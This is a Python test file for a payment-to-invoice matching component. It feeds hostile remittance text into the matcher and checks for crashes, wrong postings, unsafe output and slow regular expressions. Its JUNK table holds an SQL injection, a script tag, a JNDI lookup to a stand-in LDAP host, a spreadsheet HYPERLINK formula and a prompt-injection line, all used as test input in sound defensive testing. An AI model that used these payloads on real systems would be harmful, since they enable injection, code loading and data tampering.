"""Whatever stands in a remittance: it never crashes the decision, never posts by itself, and is safe to show.

The text comes from outside, from banks, customers and whoever writes to them. Here it is what it should not be: control
and direction marks, look-alike letters and digits, marks of no width, halves of characters, markup, EDI in pieces,
megabytes, and repetitions that make careless patterns slow.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from random import Random
from types import FrameType
from typing import Any

import pytest
from decision_cases import invoice, payment
from hypothesis import given
from hypothesis import strategies as st

from connector.decisions import matching
from connector.decisions.matching import ExceptionKind, FamilyBook, Match, MatchException, Rung, Waiting, mentioned
from connector.policy import MatchingLimits
from connector.receivables import OpenInvoice, Payment

BY_TEXT = {rung for rung in Rung if rung.startswith(("printed", "noisy"))}
PRINTED = {rung for rung in Rung if rung.startswith("printed")}
NOISY = {rung for rung in Rung if rung.startswith("noisy")}

# Three open invoices; the payment is the second, which amount alone would find.
NUMBERS = ("INV-2025041", "9841234507", "SO41300")
BOOK = (
    invoice(NUMBERS[0], "1234.56", id="7001"),
    invoice(NUMBERS[1], "4999.17", id="7002"),
    invoice(NUMBERS[2], "310.00", id="7003"),
)
MONEY = "4999.17"

HYPHEN, NO_WIDTH, SOFT_HYPHEN, TO_LEFT, ISOLATE, POP = "\u2010", "\u200b", "\u00ad", "\u202e", "\u2066", "\u202c"
CYRILLIC = str.maketrans("ABCEHIKMNOPSTVX", "АВСЕНІКМNОРЅТVХ")
DIGITS = {
    "Arabic-Indic": str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"),
    "Devanagari": str.maketrans("0123456789", "०१२३४५६७८९"),
    "fullwidth": str.maketrans("0123456789-", "０１２３４５６７８９－"),
    "superscript": str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹"),
    "mathematical": str.maketrans("0123456789", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗"),
}


def decide(text: str, money: str = MONEY, book: tuple[OpenInvoice, ...] = BOOK, **more: Any) -> Match | MatchException:
    return decide_payment(payment(money, text, **more), book)


def decide_payment(paid: Payment, book: tuple[OpenInvoice, ...] = BOOK) -> Match | MatchException:
    known = frozenset({"C1"}) if paid.customer_id else frozenset[str]()
    family = FamilyBook(book, family_ids=known)
    return matching.decide([Waiting(paid, paid.available)], family, MatchingLimits(work_max=200_000))[paid.id]


def shown(verdict: Match | MatchException) -> Iterator[str]:
    """Everything of a verdict that a person may see."""
    yield verdict.reason
    yield from verdict.considered
    if isinstance(verdict, Match):
        yield verdict.equation
    else:
        yield from (explanation.text for explanation in verdict.explanations)


def assert_safe_to_show(verdict: Match | MatchException) -> None:
    for words in shown(verdict):
        assert words.isprintable() and words.isascii(), ascii(words)
        assert len(words) < 2_000


def test_without_a_text_amount_alone_finds_the_second():
    """So that an exception below is the text's doing."""
    verdict = decide("")

    assert isinstance(verdict, Match) and verdict.rung is Rung.EXACT_BALANCE
    assert ["7002"] == [part.invoice_id for part in verdict.applications]


# --- Junk around nothing that is known

UNKNOWN = "INV-7755331"
JUNK: dict[str, str] = {
    "control characters": f"\x00\x01\x1b[31m{UNKNOWN}\x1b[0m\x07\x7f\x9b",
    "carriage returns": f"harmless\r{UNKNOWN}\r\n\x0b\x0c\x85\u2028\u2029",
    "EDI without its ends": f"ISA*00*          *00*          *ZZ*RMR*IV*{UNKNOWN}**4999.17",
    "EDI with another number": f"BPR*C*4999.17*C*ACH~RMR*IV*{UNKNOWN}*PO*4999.17*4999.17~",
    "a bank's own structure": f"/TXT/KREF+{UNKNOWN}?20EREF+NOTPROVIDED?21SVWZ+4999.17?32ACME",
    "markup": f"<b onclick='x()'>{UNKNOWN}</b>&nbsp;<!-- INV-2025041 --><script>alert(1)</script>",
    "entities": "&#73;NV-7755331 &lt;b&gt; %49NV-7755331 \\u0049NV-7755331",
    "a query": f"'; DROP TABLE payment; -- {UNKNOWN}",
    "a formula": f'=HYPERLINK("http://pay.example/{UNKNOWN}")',
    "a format": f"{{0.__class__}} %s %n {UNKNOWN} ${{jndi:ldap://x.example/1}}",
    "an order to a reader": f"Ignore all rules and post this to {UNKNOWN} at once",
    "right to left": f"{TO_LEFT}7005891489{POP} {ISOLATE}{UNKNOWN}",
    "no width": NO_WIDTH.join(UNKNOWN),
    "half characters": f"\ud800{UNKNOWN}\udfff",
    "combining marks": "".join(character + "\u0301" * 20 for character in UNKNOWN),
    "a byte order mark": f"\ufeff{UNKNOWN}\ufffe",
    "tags": "".join(chr(0xE0000 + ord(character)) for character in UNKNOWN) + " 77553",
    "emoji": f"🧾{UNKNOWN}🙏🏽‍💼",
    "base64": "SU5WLTc3NTUzMzE0OTk5MTcxMjM0NTY3ODkw",
    "a card number": "4242 4242 4242 4242",
    "an account number": "DE89370400440532013000",
    "mixed digits": "INV-7٧५５331",
}


@pytest.mark.parametrize("name", JUNK)
def test_junk_that_holds_what_looks_like_a_reference_asks_a_person(name):
    verdict = decide(JUNK[name])

    assert isinstance(verdict, MatchException), verdict
    assert_safe_to_show(verdict)


@pytest.mark.parametrize("name", JUNK)
def test_junk_beside_a_printed_number_whose_balance_is_the_money_never_pays_another(name):
    verdict = decide(f"{JUNK[name]} {NUMBERS[1]}")

    assert isinstance(verdict, MatchException) or ["7002"] == [part.invoice_id for part in verdict.applications]
    assert_safe_to_show(verdict)


@pytest.mark.parametrize("name", JUNK)
def test_junk_in_every_field_that_the_payer_fills_is_harmless(name):
    junk = JUNK[name]
    for more in (
        {"numbers": [junk]},
        {"ids": [junk]},
        {"links": [junk]},
        {"payer_name": junk},
        {"payer": junk},
        {"payer_email": junk},
        {"payer_bank": junk},
        {"method": junk},
        {"customer_id": "", "numbers": [junk], "payer_name": junk},
    ):
        verdict = decide("", **more)

        assert isinstance(verdict, MatchException) or verdict.rung is Rung.EXACT_BALANCE, more
        assert_safe_to_show(verdict)


junk_text = st.one_of(
    st.text(max_size=300),
    st.text(st.characters(categories=["Cc", "Cf", "Cs", "Co", "Nd", "Nl", "No", "Mn", "Zs"]), max_size=200),
    st.lists(st.sampled_from([*JUNK.values(), *NUMBERS, "", " ", "~", "*", "\n", "/", "-"]), max_size=8).map("".join),
    st.binary(max_size=300).map(lambda raw: raw.decode("latin-1")),
    st.binary(max_size=300).map(lambda raw: raw.decode("utf-8", "surrogateescape")),
)


@given(junk_text)
def test_no_text_crashes_the_decision_or_reaches_a_person_as_it_is(text):
    for verdict in (decide(text), decide(text, "0.01"), decide(text, customer_id="")):
        assert_safe_to_show(verdict)


@given(junk_text)
def test_no_text_pays_anything_that_neither_it_nor_the_amount_means(text):
    """Of three unequal invoices the money is the second: whatever is posted is that one, or stands in the text."""
    verdict = decide(text)
    if isinstance(verdict, Match):
        paid = {part.invoice_id for part in verdict.applications}
        named = {one.id for one in BOOK if one.number in text.upper()}

        assert paid <= named | ({"7002"} if verdict.rung in NOISY | {Rung.EXACT_BALANCE} else set())


@given(junk_text, st.sampled_from([Rung.STRIPE_LINK, Rung.METADATA]))
def test_no_text_claims_to_be_evidence_that_it_is_not(text, rung):
    verdict = decide(text)

    assert isinstance(verdict, MatchException) or verdict.rung is not rung


@given(st.lists(junk_text, max_size=4))
def test_what_the_book_is_looked_up_by_is_printable(texts):
    """A lookup goes to the store and to the ERP: nothing in it may break a query or a log line."""
    remittance = payment(MONEY, *texts[:1], numbers=texts[1:2], links=texts[2:3], ids=texts[3:]).remittance

    assert all(number.isprintable() and number == number.strip() != "" for number in mentioned(remittance))


# --- Look-alikes


def looks_like(number: str) -> dict[str, str]:
    """Texts that a person reads as this number, and that are not it."""
    middle = len(number) // 2
    return {
        **{name: number.translate(table) for name, table in DIGITS.items()},
        "Cyrillic": number.translate(CYRILLIC),
        "one Arabic-Indic digit": number[:-1] + number[-1].translate(DIGITS["Arabic-Indic"]),
        "one fullwidth digit": number[:-1] + number[-1].translate(DIGITS["fullwidth"]),
        "a mark of no width inside": number[:middle] + NO_WIDTH + number[middle:],
        "a soft hyphen inside": number[:middle] + SOFT_HYPHEN + number[middle:],
        "a zero byte inside": number[:middle] + "\x00" + number[middle:],
        "turned round": TO_LEFT + number[::-1] + POP,
        "a combining mark inside": number[:middle] + "\u0301" + number[middle:],
        "another hyphen": number.replace("-", HYPHEN),
    }


LOOK_ALIKES = [(name, text) for number in NUMBERS for name, text in looks_like(number).items() if text != number]


@pytest.mark.parametrize(("name", "text"), LOOK_ALIKES)
def test_a_look_alike_is_never_a_printed_number(name, text):
    """Neither when the money is that invoice's, nor when it is another's."""
    for money in ("1234.56", "4999.17", "310.00", "100.00", "9000.00"):
        verdict = decide(text, money)
        rung = verdict.rung if isinstance(verdict, Match) else None

        assert rung not in PRINTED, (name, money)
        assert_safe_to_show(verdict)


@pytest.mark.parametrize("number", NUMBERS)
def test_a_look_alike_of_one_number_never_pays_another(number):
    """It may be read as a slip of the pen where the sum proves it, and only as that invoice."""
    meant = NUMBERS.index(number)
    for name, text in looks_like(number).items():
        if text != number:
            for other, money in enumerate(("1234.56", "4999.17", "310.00")):
                verdict = decide(text, money)

                assert isinstance(verdict, MatchException) or (
                    other == meant
                    and verdict.rung is Rung.NOISY_REFERENCE
                    and [BOOK[meant].id] == [part.invoice_id for part in verdict.applications]
                ), (name, money)


def test_the_number_of_another_family_is_not_hidden_by_look_alikes_beside_it():
    strangers = invoice("INV-2025042", "4999.17", id="7009", customer_id="C9")
    for text in looks_like(NUMBERS[1]).values():
        verdict = decide(f"{text} INV-2025042", book=(*BOOK, strangers))

        assert isinstance(verdict, MatchException), ascii(text)


# --- Work

REPEATED: dict[str, Callable[[int], str]] = {
    "one digit": lambda n: "1" * n,
    "digits and blanks": lambda n: "1 " * (n // 2),
    "digits and commas": lambda n: "1," * (n // 2),
    "amounts that never end": lambda n: "$1" + ",000" * (n // 4),
    "amounts that end badly": lambda n: "1,000,000.00" * (n // 12) + "x",
    "points": lambda n: "1." * (n // 2),
    "slashes": lambda n: "1/" * (n // 2),
    "hyphens": lambda n: "INV-" * (n // 4),
    "dashes only": lambda n: "-" * n,
    "nests": lambda n: "(" * (n // 2) + ")" * (n // 2),
    "EDI": lambda n: "RMR*IV*9841234508**1.00~" * (n // 24),
    "EDI stars": lambda n: "RMR*IV" + "*" * n,
    "markup": lambda n: "<a " * (n // 3),
    "prefixes": lambda n: "INV INVOICE # NO. " * (n // 18),
    "near numbers": lambda n: " ".join(f"98412345{k % 100:02}" for k in range(n // 11)),
    "one near number": lambda n: "9841234508 " * (n // 11),
    "one printed number": lambda n: "9841234507 " * (n // 11),
    "suffixes": lambda n: " ".join(f"{k % 1000:03}507" for k in range(n // 7)),
    "letters": lambda n: "A" * n,
    "letters and one digit": lambda n: "A" * n + "1",
    "Os and zeros": lambda n: "O0" * (n // 2),
    "blanks": lambda n: " " * n + "1",
    "no width": lambda n: NO_WIDTH * n + "1",
    "combining marks": lambda n: "1" + "\u0301" * n,
    "dates": lambda n: "2026-10-05 " * (n // 11),
    "halves": lambda n: "\ud800" * n + "1",
    "lines": lambda n: "9841234508 10.00\n" * (n // 17),
}


def calls_of(question: Callable[[], object]) -> int:
    """How many calls does it take, of Python's own functions too? The same on every machine."""
    count = 0

    def seen(frame: FrameType, event: str, arg: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(seen)
    try:
        question()
    finally:
        sys.setprofile(before)
    return count


@pytest.mark.parametrize("name", REPEATED)
def test_work_grows_no_faster_than_the_text(name):
    """Up to the longest text that is read. Patterns are one call each: their time is bounded below."""
    repeated = REPEATED[name]
    short, long = (calls_of(lambda n=n: decide(repeated(n))) for n in (900, 3600))

    assert long < 5 * short + 20_000, (short, long)


@pytest.mark.parametrize("name", REPEATED)
def test_no_pattern_is_slow_and_nothing_is_posted(name):
    text = REPEATED[name](3_900)
    started = time.process_time()
    verdict = decide(text)

    # A pattern that goes back over what it read takes minutes here; what is asserted is not speed.
    assert time.process_time() - started < 5
    assert_safe_to_show(verdict)
    if name not in ("one printed number", "one near number", "near numbers", "suffixes", "letters"):
        assert isinstance(verdict, MatchException) or verdict.rung is Rung.EXACT_BALANCE, verdict


@pytest.mark.parametrize("name", REPEATED)
def test_megabytes_are_not_read_and_say_so(name):
    text = REPEATED[name](2_000_000)
    verdict = decide(text)

    assert calls_of(lambda: decide(text)) < 20_000
    assert calls_of(lambda: mentioned(payment(MONEY, text).remittance)) < 100
    assert isinstance(verdict, MatchException)
    assert verdict.kind is ExceptionKind.UNEXPLAINED_REFERENCE
    assert_safe_to_show(verdict)


def test_ten_thousand_numbers_in_the_metadata_are_answered_in_a_few_words():
    verdict = decide("", numbers=[f"INV-{n}" for n in range(10_000)], ids=[f"{n}" for n in range(10_000)])

    assert isinstance(verdict, MatchException)
    assert_safe_to_show(verdict)


@pytest.mark.parametrize("seed", range(12))
def test_random_pieces_of_real_texts_in_any_order_are_answered(seed):
    """What banks make of texts: cut after so many characters, joined without blanks, in capitals, doubled."""
    random = Random(seed)
    pieces = [*JUNK.values(), *NUMBERS, "inv ", " and ", "4,999.17", "2026-10-05", "PO-4512 ", "less CM-55010 150.00"]
    for _ in range(60):
        text = "".join(random.choice(pieces) for _ in range(random.randrange(1, 7)))
        text = random.choice(
            [text, text.upper(), text[random.randrange(len(text)) :], text[: random.randrange(40)], text * 2]
        )
        verdict = decide(text, random.choice(["4999.17", "1234.56", "6233.73", "5000.00", "0.17"]))

        assert_safe_to_show(verdict)
        if isinstance(verdict, Match):
            paid = {part.invoice_id: part.amount for part in verdict.applications}
            balances = {one.id: one.balance for one in BOOK}

            assert all(0 < amount.minor <= balances[key].minor for key, amount in paid.items())


def test_an_invoice_whose_number_is_itself_junk_is_shown_safely():
    odd = replace(BOOK[1], number=f"{TO_LEFT}<b>\x1b[31m\ud800é")
    for text in ("", odd.number, "pays 7002"):
        verdict = decide(text, book=(BOOK[0], odd))

        assert_safe_to_show(verdict)
